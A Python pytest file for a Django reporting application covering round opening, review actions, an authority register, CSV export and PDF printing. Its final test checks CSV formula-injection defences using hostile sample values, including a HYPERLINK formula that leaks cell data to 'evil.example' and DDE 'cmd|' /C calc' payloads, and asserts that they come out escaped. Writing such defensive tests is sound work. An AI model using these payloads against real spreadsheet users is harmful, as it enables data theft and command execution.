"""The Secretariat's side: opening a round, the overview, review actions, the register, print."""

from __future__ import annotations

import re

import pytest

from codemonitor.accounts.models import Role
from codemonitor.registers.models import NationalAuthority, NationalAuthorityProposal
from codemonitor.reporting.answers import answer_save
from codemonitor.reporting.models import QuestionComment, Report
from tests.downloads import assert_download
from tests.national.test_workflow import fill
from tests.pdf import pdf_text

pytestmark = pytest.mark.django_db


def test_opening_the_round_invites_focal_points_and_lists_the_rest(
    clients, people, instruments, smtp, django_capture_on_commit_callbacks
) -> None:
    from codemonitor.demo.rounds import demo_round_ensure

    round_ = demo_round_ensure()
    with django_capture_on_commit_callbacks(execute=True):
        response = clients["admin"].post(
            f"/backoffice/rounds/{round_.number}/national/open/", follow=True
        )
    html = response.content.decode()
    assert "194 national reports opened" in html
    assert "192 countries have no focal point" in html
    assert Report.objects.filter(member_state__isnull=False).count() == 194
    invited = sorted(str(m["To"]) for m in smtp.wait_for(2))
    assert invited == ["fp@fra.example", "fp@gha.example"]
    link = re.search(
        r"(http://testserver/account/sign-in/\?next=/national/reports/\d+/page/1/)",
        smtp.messages[0].get_body().get_content(),
    )
    assert link


def test_the_round_can_be_opened_for_some_member_states(people) -> None:
    from codemonitor.demo.rounds import demo_round_ensure
    from codemonitor.reporting.rounds import round_instrument_for
    from codemonitor.reporting.workflow import round_open_national

    use = round_instrument_for(demo_round_ensure(), "national")
    opened = {"round_instrument": use, "user": people["admin"], "base_url": "http://x"}
    created, without = round_open_national(**opened, member_states=["GHA", "BRA"])
    assert (created, [s.iso3 for s in without]) == (2, ["BRA"])
    created, without = round_open_national(**opened, member_states=iter(["GHA", "FRA"]))
    assert (created, without) == (1, [])
    assert sorted(use.reports.values_list("member_state_id", flat=True)) == ["BRA", "FRA", "GHA"]


def test_the_overview_filters_by_region_and_state(clients, nri_round_all) -> None:
    number = nri_round_all.round.number
    report_a = Report.objects.get(round_instrument=nri_round_all, member_state_id="GHA")
    afr = clients["analyst"].get(f"/backoffice/rounds/{number}/national/?region=AFR")
    html = afr.content.decode()
    assert html.count('<tr data-country="') == 47
    assert "Ghana" in html and "France" not in html
    Report.objects.filter(pk=report_a.pk).update(state=Report.State.SUBMITTED)
    submitted = (
        clients["analyst"]
        .get(f"/backoffice/rounds/{number}/national/?state=submitted")
        .content.decode()
    )
    assert submitted.count('<tr data-country="') == 1 and "fp@gha.example" in submitted
    everyone = clients["analyst"].get(f"/backoffice/rounds/{number}/national/").content.decode()
    assert everyone.count("no focal point") == 192


def test_return_with_a_comment_on_one_question_from_the_page(clients, report_a, people) -> None:
    fill(report_a, people["fp_a"])
    clients["fp_a"].post(f"/national/reports/{report_a.pk}/submit/")
    report_a.refresh_from_db()
    assert report_a.state == Report.State.SUBMITTED
    base = f"/backoffice/national-reports/{report_a.pk}/"
    clients["admin"].post(base + "review/")
    clients["admin"].post(
        base + "return/",
        {"message": "Please check.", "comment__dna_name": "Give the official name."},
    )
    report_a.refresh_from_db()
    assert report_a.state == Report.State.RETURNED
    assert QuestionComment.objects.get(report=report_a).question == "dna_name"
    # The analyst reads but cannot act.
    assert clients["analyst"].post(base + "validate/").status_code == 404


def test_the_register_is_kept_with_its_history_and_proposals(clients, people) -> None:
    clients["admin"].post(
        "/backoffice/registers/authorities/GHA/",
        {
            "action": "save",
            "authority-name": "Human Resources Directorate",
            "authority-institution": "Ministry of Health",
            "authority-designated_on": "2024-02-01",
            "note": "Designation letter of February 2024",
        },
    )
    authority = NationalAuthority.objects.get(member_state_id="GHA")
    assert authority.name == "Human Resources Directorate"
    clients["fp_a"].post(
        "/national/authority/",
        {
            "authority-name": "HR for Health Directorate",
            "authority-institution": "Ministry of Health",
        },
    )
    proposal = NationalAuthorityProposal.objects.get()
    assert (
        clients["contributor_a"].post("/national/authority/", {"authority-name": "x"}).status_code
        == 404
    )
    clients["admin"].post(f"/backoffice/registers/proposals/{proposal.pk}/accept/")
    authority.refresh_from_db()
    assert authority.name == "HR for Health Directorate"
    assert authority.changes.count() == 2
    csv = clients["analyst"].get("/backoffice/registers/authorities.csv").content.decode()
    assert csv.splitlines()[0].startswith("iso3,member_state,name,institution")
    assert "GHA,Ghana,HR for Health Directorate,Ministry of Health" in csv
    assert len(csv.splitlines()) == 195


def test_the_focal_point_is_invited_from_the_register(
    clients, reference, smtp, django_capture_on_commit_callbacks, people
) -> None:
    from codemonitor.accounts.models import User

    with django_capture_on_commit_callbacks(execute=True):
        clients["admin"].post(
            "/backoffice/registers/authorities/KEN/",
            {"action": "invite", "focal-email": "fp@ken.example", "focal-first_name": "Wanjiru"},
        )
    user = User.objects.get(email="fp@ken.example")
    assert (user.role, user.member_state_id) == (Role.FOCAL_POINT, "KEN")
    assert smtp.wait_for(1)[0]["To"] == "fp@ken.example"


def test_print_the_report_and_the_blank_instrument(clients, report_a, people) -> None:
    answer_save(report=report_a, question="dna_name", value="Directorate of HRH")
    filled = clients["fp_a"].get(f"/national/reports/{report_a.pk}/report.pdf")
    assert_download(filled, "application/pdf", f"{report_a.reference}.pdf")
    text = pdf_text(filled.content)
    assert "Directorate of HRH" in text and report_a.reference in text
    response = clients["fp_a"].get(f"/national/reports/{report_a.pk}/blank.pdf")
    version = report_a.instrument_version
    assert_download(response, "application/pdf", f"nri-{version.version}.pdf")
    blank = pdf_text(response.content)
    assert "Name of the designated national authority" in blank
    Report.objects.filter(pk=report_a.pk).update(language="fr")
    french = pdf_text(clients["fp_a"].get(f"/national/reports/{report_a.pk}/blank.pdf").content)
    assert "Nom de l'autorité nationale désignée" in french


def test_the_register_export_never_holds_a_formula(clients, people) -> None:
    """Issue 8: what an administrator or a focal point typed in comes out of the CSV as text."""
    import csv
    import io

    from codemonitor.registers.services import authority_save

    dangerous = {
        "authority-name": '=HYPERLINK("https://evil.example/?leak="&A1,"Ministry of Health")',
        "authority-institution": "@SUM(1+1)*cmd|' /C calc'!A0",
        "authority-address": "-2+3+cmd|' /C calc'!A0",
        "authority-telephone": "+cmd|' /C calc'!A0",
    }
    response = clients["admin"].post(
        "/backoffice/registers/authorities/GHA/", {"action": "save", **dangerous}
    )
    assert response.status_code == 302
    # The invitation's first name is the focal point's, shown in the export.
    clients["admin"].post(
        "/backoffice/registers/authorities/GHA/",
        {"action": "invite", "focal-email": "eve@gha.example", "focal-first_name": "=1+2"},
    )
    # A focal point's proposal, accepted by an administrator, reaches the register too.
    clients["fp_b"].post("/national/authority/", {"authority-name": "-1+1"})
    proposal = NationalAuthorityProposal.objects.get(member_state_id="FRA")
    clients["admin"].post(f"/backoffice/registers/proposals/{proposal.pk}/accept/")
    # Forms strip a leading tab or carriage return; the service keeps them.
    authority_save(
        member_state_id="KEN",
        data={"name": "\t=1+1", "address": "\r=1+1", "telephone": "-5"},
        user=people["admin"],
    )

    download = clients["admin"].get("/backoffice/registers/authorities.csv")
    assert download.status_code == 200
    assert download["Content-Type"].startswith("text/csv")
    rows = {
        row["iso3"]: row
        for row in csv.DictReader(io.StringIO(download.content.decode("utf-8"), newline=""))
    }
    ghana = rows["GHA"]
    for field, value in dangerous.items():
        assert ghana[field.removeprefix("authority-")] == "'" + value
    assert ghana["focal_points"] == "'=1+2; fp@gha.example"
    assert rows["FRA"]["name"] == "'-1+1"
    assert (rows["KEN"]["name"], rows["KEN"]["address"]) == ("'\t=1+1", "'\r=1+1")
    assert rows["KEN"]["telephone"] == "'-5"  # text, even when it looks like a number
    dangerous_start = ("=", "+", "-", "@", "\t", "\r")
    assert not [
        (iso3, name, value)
        for iso3, row in rows.items()
        for name, value in row.items()
        if value.startswith(dangerous_start)
    ]
    assert rows["BRA"]["name"] == ""  # a Member State without an entry: empty cells
